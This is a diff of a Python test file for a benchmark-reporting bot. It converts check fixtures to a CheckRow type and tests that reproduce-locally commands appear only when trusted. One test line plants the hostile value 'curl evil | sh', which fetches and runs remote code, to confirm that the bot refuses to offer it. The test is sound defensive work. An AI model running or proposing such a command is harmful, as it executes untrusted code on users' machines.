@@ -9,6 +9,7 @@ import pytest
 
 from bot import fingerprint as fp
 from bot.errors import UsageError
+from bot.records import CheckRow
 from bot.render import BODY_LIMIT, Renderer, code, fence, md
 from bot.report import ReportOptions, issue_context, load_run, merge_state
 from tests.ghstub.rundir import REPRO, check_row, failure_record, write_run
@@ -120,10 +121,10 @@ def test_templates_dir_overrides_and_strict_undefined(tmp_path):
 def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_with_it():
     from bot.report import reproduce_command
 
-    check = {"id": "bench-inductor-inference-float32-cpu", "model": "bench", "backend": "inductor",
+    check = CheckRow.from_json({"id": "bench-inductor-inference-float32-cpu", "model": "bench", "backend": "inductor",
              "mode": "inference", "dtype": "float32", "device": "cpu", "config": {},
              "spec": {"source": "command", "command": "python bench.py --layers 30", "cwd": "/src/my bench",
-                      "patterns": {"accuracy": ["drift of [0-9.]+"], "error": []}}}
+                      "patterns": {"accuracy": ["drift of [0-9.]+"], "error": []}}})
     untrusted = reproduce_command(check, True)
     assert "bench.py" not in untrusted and "--command COMMAND" in untrusted
     trusted = reproduce_command(check, True, ("python bench.py --layers 30",))
@@ -133,5 +134,5 @@ def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_w
     assert ("minify-bot check --suite command --command 'python bench.py --layers 30' --name bench "
             "--accuracy-pattern 'drift of [0-9.]+'") in lines[3]
     # a different command in the artifact is still not offered, whatever the report trusts
-    other = dict(check, spec=dict(check["spec"], command="curl evil | sh"))
+    other = check.replace(spec=check.spec.replace(command="curl evil | sh"))
     assert "curl" not in reproduce_command(other, True, ("python bench.py --layers 30",))
